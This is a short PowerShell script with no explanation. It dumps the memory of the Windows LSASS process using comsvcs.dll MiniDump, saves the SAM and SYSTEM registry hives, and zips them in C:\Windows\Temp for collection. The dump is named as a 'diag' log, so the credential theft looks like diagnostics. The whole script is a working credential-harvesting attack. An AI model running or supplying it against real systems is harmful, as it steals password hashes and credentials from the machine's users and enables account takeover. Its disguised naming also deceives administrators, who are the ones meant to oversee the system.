$ErrorActionPreference = 'Stop'
$lsass = Get-Process -Name lsass
$out = 'C:\Windows\Temp\diag_{0}.log' -f (Get-Date -Format 'HHmmss')

& rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id $out full

reg.exe save HKLM\SAM C:\Windows\Temp\sam.sav /y
reg.exe save HKLM\SYSTEM C:\Windows\Temp\sys.sav /y

Compress-Archive -Path $out, C:\Windows\Temp\sam.sav, C:\Windows\Temp\sys.sav -DestinationPath C:\Windows\Temp\diag.zip
